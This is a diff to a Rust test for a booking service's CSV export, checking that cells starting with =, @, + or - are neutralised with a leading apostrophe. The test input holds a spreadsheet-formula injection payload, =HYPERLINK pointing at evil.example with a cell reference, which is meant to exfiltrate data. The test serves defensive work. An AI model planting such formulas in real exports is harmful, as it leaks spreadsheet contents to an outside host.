@@ -21,7 +21,7 @@ async fn a_sheet_runs_nothing_and_tells_both_times() {
     let shop = Shop::open(&service, json!({"name": "-Cut"})).await;
     let start = shop.starts(shop.tomorrow).await.remove(0);
     let mut wish = shop.wish(&start);
-    wish["customer"] = json!({"display_name": "=HYPERLINK(\"http://evil.example?\"&A1)", "email": "@ana@example.com", "phone": "+1 212"});
+    wish["customer"] = json!({"display_name": "=HYPERLINK(\"http://evil.example?\"&A1)", "email": "=ana@example.com", "phone": "+1 212"});
     wish["notes"] = "\tx,\n\"y\"".into();
     let booking = shop.book(&wish).await.expect(201);
     let answer = shop.owner.get(&format!("{DESK}/export")).await;
@@ -36,7 +36,7 @@ async fn a_sheet_runs_nothing_and_tells_both_times() {
     assert_eq!((line("start_utc"), line("time_zone")), (start.as_str(), "America/New_York"));
     assert!(line("start_local").ends_with(" 09:00"), "{}", line("start_local"));
     assert_eq!(line("customer"), "'=HYPERLINK(\"http://evil.example?\"&A1)");
-    assert_eq!((line("email"), line("phone"), line("service")), ("'@ana@example.com", "'+1 212", "'-Cut"));
+    assert_eq!((line("email"), line("phone"), line("service")), ("'=ana@example.com", "'+1 212", "'-Cut"));
     assert_eq!(line("notes"), "x,\n\"y\"", "white space around a text is cut off when it is written");
     assert_eq!((line("total_cents"), line("currency"), line("attendees")), ("4500", "USD", "1"));
     let noted = noted(&service, &shop, "ADMIN_EXPORT").await;
